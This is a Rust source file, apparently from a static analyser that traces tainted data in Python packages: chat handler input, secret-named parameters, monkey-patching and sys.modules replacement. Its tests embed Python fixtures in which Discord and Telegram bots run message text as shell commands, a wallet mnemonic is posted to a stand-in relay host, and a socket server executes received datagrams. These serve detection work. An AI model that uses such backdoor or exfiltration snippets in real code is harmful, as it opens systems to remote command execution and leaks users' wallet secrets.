//! What comes from a caller nobody sees: what people write to a chat handler, and parameters that are named as secrets.

use std::borrow::Cow;
use std::rc::Rc;

use model::Phase;
use ruff_python_ast as ast;
use ruff_text_size::{Ranged, TextRange};

use crate::heap::{Bound, Target};
use crate::interpreter::{Arguments, Interpreter};
use crate::names::NameId;
use crate::value::{Data, Marks, Origin, Value, union};

/// Functions that one source replaces.
const MOST_REPLACED: usize = 64;

impl<'a> Interpreter<'a, '_> {
    /// A handler is given what people elsewhere write: `@bot.command()`, `async def on_message(self, message)`.
    pub(crate) fn received_by(
        &mut self,
        decorators: &[(Value<'a>, TextRange)],
        node: &'a ast::StmtFunctionDef,
        class: Option<u32>,
    ) -> Option<u32> {
        let named = node.name.as_str();
        let handler = format!("handler.{named}");
        if named.starts_with("on_")
            && !self.names.table().of(&handler).is_empty()
            && let Some(id) = self.names.name(&handler)
            && let Some(source) = self.receiver(id, node.name.range())
        {
            return Some(source);
        }
        let registered = decorators.iter().find_map(|(decorator, range)| match decorator.data {
            Data::Name(id, _) => self.receiver(id, *range),
            _ => None,
        });
        registered.or_else(|| self.handed(node, class))
    }

    /// The source that a name is to the functions it is given as handlers, if it is one.
    pub(crate) fn receiver(&mut self, id: NameId, range: TextRange) -> Option<u32> {
        let behaviour = self.hands_over(id)?;
        let name = self.names.shared(id);
        self.record_source(behaviour, &name, &[], range)
    }

    /// What a caller hands over is a secret when its name says so: `mnemonic`, `private_key`.
    pub(crate) fn secret_parameter(&mut self, value: Value<'a>, name: &str, range: TextRange) -> Value<'a> {
        if !["key", "mnemonic", "seed", "phrase", "passw", "pwd"].iter().any(|word| name.contains(word)) {
            return value;
        }
        let named = format!("parameter.{}", name.to_ascii_lowercase());
        if self.names.table().of(&named).is_empty() {
            return value;
        }
        let Some(id) = self.names.name(&named) else { return value };
        let mut origin = value.origin.clone();
        let callee = self.names.shared(id);
        for behaviour in self.names.behaviours(id).to_vec() {
            if let Some(source) = self.record_source(behaviour, &callee, &[], range) {
                let marks = Marks { taints: vec![(source, 0)], ..Marks::default() };
                origin = union(&origin, &Some(Rc::new(marks)));
            }
        }
        Value::from(value.data, origin)
    }

    /// What is given as a handler is called with what people elsewhere write.
    pub(crate) fn mark_receiver(&mut self, value: &Value<'a>, source: u32) {
        let Some((function, this)) = self.behind(value) else { return };
        self.refilled.extend(this.map(|this| (function, Some(this))));
        if let Some(function) = self.function_mut(function) {
            function.receives.get_or_insert(source);
        }
    }

    /// The function of this source that is called when a value is, and the object whose method it is.
    pub(crate) fn behind(&self, value: &Value<'a>) -> Option<(u32, Option<Value<'a>>)> {
        match value.data {
            Data::Function(id) => Some((id, None)),
            Data::Bound(id) => match self.bound_of(id)? {
                Bound { target: Target::Function(function), receiver, .. } => Some((*function, receiver.clone())),
                Bound { target: Target::Callable(Value { data: Data::Function(function), .. }), .. } => {
                    Some((*function, None))
                }
                _ => None,
            },
            _ => None,
        }
    }

    /// `library.function = mine`: whoever calls the library now hands its arguments to this function.
    pub(crate) fn patched(&mut self, object: NameId, name: &str, value: &Value<'a>) {
        let Some((function, this)) = self.behind(value) else { return };
        if !self.names.is_foreign(object) && !self.names.is_module(object) && !self.is_other_project(object) {
            return;
        }
        let Some(behaviour) = self.names.table().id_of("code.patch") else { return };
        let Some(full) = self.names.attribute(object, name) else { return };
        let callee = self.names.shared(full);
        let Some(source) = self.record_source(behaviour, &callee, &[], self.statement) else { return };
        if self.replaced.len() < MOST_REPLACED && !self.replaced.iter().any(|(known, _)| *known == full) {
            self.replaced.push((full, source));
        }
        let range = self.statement;
        self.record(full, callee, vec!["code.patch".to_owned()], &[], Vec::new(), Vec::new(), range, 0);
        let marks = Marks { taints: vec![(source, 0)], ..Marks::default() };
        let given = Arguments { open: Some(Rc::new(marks)), ..Arguments::default() };
        if self.function(function).is_some_and(|function| function.active == 0) {
            self.walk(function, this, given);
        }
    }

    /// `sys.modules["library"] = mine`: whoever imports the library from now on calls functions of this source.
    pub(crate) fn replaced(&mut self, module: &str, value: &Value<'a>, range: TextRange) {
        const MOST: usize = 40;
        let top = |name: &str| name.split('.').next().unwrap_or_default().to_owned();
        let own = top(self.unit_here().module);
        if module.is_empty() || top(module) == own || module == "__main__" {
            return;
        }
        let Some(full) = self.names.name("sys.modules.__setitem__") else { return };
        let callee = self.names.shared(full);
        let text = [module.to_owned()];
        self.record(full, callee, vec!["code.module".to_owned()], &text, Vec::new(), Vec::new(), range, 0);
        let (class, attributes, this) = match value.data {
            Data::Instance(id) => match self.instance(id) {
                Some(instance) => (instance.class, Some(&instance.attributes), Some(value.clone())),
                None => return,
            },
            Data::Class(id) => (id, None, None),
            _ => return,
        };
        let Some(scope) = self.class(class).map(|class| class.scope) else { return };
        let variables = self.scopes[scope as usize].variables.iter();
        let mut methods: Vec<(Cow<'a, str>, u32, Option<Value<'a>>)> = variables
            .filter(|(name, _)| &***name != "__init__")
            .filter_map(|(name, value)| Some((name, self.behind(value)?.0, this.clone())))
            .chain(attributes.into_iter().flatten().filter_map(|(name, value)| {
                let (function, this) = self.behind(value)?;
                Some((name, function, this))
            }))
            .map(|(name, function, this)| (name.clone(), function, this))
            .collect();
        methods.sort_by(|one, other| (&one.0, one.1).cmp(&(&other.0, other.1)));
        let Some(behaviour) = self.names.table().id_of("code.patch") else { return };
        let callee: Rc<str> = Rc::from(format!("{module}.*"));
        let Some(source) = self.record_source(behaviour, &callee, &[], range) else { return };
        let marks = Rc::new(Marks { taints: vec![(source, 0)], ..Marks::default() });
        // They run when somebody calls them.
        let phase = self.frame.phase;
        self.frame.phase = phase.max(Phase::Call);
        for (_, function, this) in methods.into_iter().take(MOST) {
            let given = Arguments { open: Some(Rc::clone(&marks)), ..Arguments::default() };
            if self.function(function).is_none_or(|function| function.active > 0) {
                continue;
            }
            let result = self.walk(function, this, given.clone());
            // `__getattr__` gives what is called.
            if let Some((inner, this)) = self.behind(&result).filter(|(inner, _)| *inner != function)
                && self.function(inner).is_some_and(|inner| inner.active == 0)
            {
                self.walk(inner, this, given);
            }
        }
        self.frame.phase = phase;
    }

    /// A function in place of another that hands its arguments on to the one it replaced.
    pub(crate) fn is_wrapper(&self, taint: (u32, u128), sink: &str, texts: &[String]) -> bool {
        let Some(source) = self.records.sources.get(taint.0 as usize) else { return false };
        let top = |name: &str| name.split('.').next().unwrap_or_default().to_owned();
        self.names.table().behaviour(source.behaviour).0 == "code.patch"
            && top(&source.callee) == top(sink)
            && !texts.iter().any(|text| text.contains("://"))
    }

    /// Without what a caller handed over: it went into something that gives something else.
    pub(crate) fn without_parameters(&self, origin: Origin) -> Origin {
        let Some(marks) = &origin else { return origin };
        let handed = |number: u32| self.records.sources[number as usize].callee.starts_with("parameter.");
        if !marks.taints.iter().any(|(number, _)| handed(*number)) {
            return origin;
        }
        let mut marks = Marks::clone(marks);
        marks.taints.retain(|(number, _)| !handed(*number));
        Some(Rc::new(marks))
    }
}

/// Whether an unknown function gives what it is given, in another form; of others nobody knows what they make of it.
pub(crate) fn carries(name: &str) -> bool {
    let top = name.split('.').next().unwrap_or_default();
    matches!(
        top,
        "json" | "base64" | "urllib" | "str" | "bytes" | "dict" | "binascii" | "aiohttp" | "requests" | "repr"
    )
}

#[cfg(test)]
mod tests {
    use crate::{
        Role,
        tests::{analysed, flow, flows},
    };

    #[test]
    fn what_a_chat_writes_reaches_what_its_handlers_do() {
        for source in [
            "import discord, subprocess\nbot = discord.ext.commands.Bot('!')\n@bot.command()\nasync def sh(ctx, *, cmd):\n \
             await ctx.send(subprocess.run(cmd, shell=True))\n",
            "import telebot, os\nb = telebot.TeleBot('t')\n@b.message_handler(func=None)\ndef h(m):\n os.popen(m.text)\n",
            "import discord, os\nclass C(discord.Client):\n async def on_message(self, message):\n  os.system(message.content)\n",
            "import os\nfrom telegram.ext import CommandHandler\ndef h(update, context):\n \
             os.system(update.message.text)\nx = CommandHandler('sh', h)\n",
        ] {
            flow(&analysed(Role::Package, source), "chat.receive", "process.spawn");
        }
    }

    #[test]
    fn a_secret_that_is_handed_over_is_a_source_and_a_signature_is_not() {
        let sent = "import requests\nclass W:\n def a(self, mnemonic):\n  self.b(mnemonic)\n def b(self, p):\n  \
                    requests.post('https://relay.invalid', json={'p': p})\n";
        flow(&analysed(Role::Package, sent), "wallet.key", "network.send");
        let signed = "import requests, jwt\ndef call(private_key):\n \
                      requests.post('https://relay.invalid', headers={'a': jwt.encode({}, private_key)})\n";
        assert!(flows(&analysed(Role::Package, signed)).is_empty());
    }

    #[test]
    fn a_password_that_goes_to_two_domains_is_told_and_to_two_hosts_of_one_is_not() {
        let login = |second: &str| {
            format!(
                "import requests\nclass C:\n api = 'https://api.shop.test/v1'\n def login(self, user, password):\n  \
                 requests.post(self.api + '/login', json={{'p': password}})\n  \
                 requests.post('https://{second}/l', json={{'p': password}})\n"
            )
        };
        let hosts = |second: &str| {
            let analysis = analysed(Role::Package, &login(second));
            flows(&analysis).iter().map(|flow| flow.elsewhere.clone()).collect::<Vec<_>>()
        };
        assert_eq!(hosts("audit.other.invalid"), [["audit.other.invalid"], ["api.shop.test"]]);
        assert!(hosts("audit.shop.test").iter().all(Vec::is_empty));
    }

    #[test]
    fn what_a_registered_function_gives_back_is_no_source() {
        let plain =
            "import requests\ns = requests.Session()\ndef page(url):\n r = s.send(url)\n s.send(r.json()['next'])\n";
        assert!(flows(&analysed(Role::Package, plain)).iter().all(|flow| flow.source != "callback.receive"));
    }

    #[test]
    fn what_comes_to_a_port_reaches_the_handler_of_its_datagrams() {
        let handler = "import socketserver, subprocess\nclass H(socketserver.BaseRequestHandler):\n def handle(self):\n  \
                       d, s = self.request\n  subprocess.getoutput(d.decode())\n";
        flow(&analysed(Role::Package, handler), "web.receive", "process.spawn");
    }
}
